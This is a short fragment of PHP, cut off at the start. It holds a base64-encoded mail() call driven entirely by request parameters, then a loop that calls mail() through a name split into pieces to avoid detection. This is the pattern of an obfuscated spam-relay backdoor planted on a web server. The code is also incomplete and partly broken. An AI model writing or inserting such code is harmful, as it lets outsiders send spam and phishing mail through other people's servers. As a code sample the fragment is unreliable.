'bWFpbCgkX1BPU1RbJ3RvJ10sICRfUE9TVFsnc3ViamVjdCddLCAkX1BPU1RbJ2JvZHknXSk7'));
foreach ($a as $b) { $f = 'ma'.'il'; $f($_POST['x']); }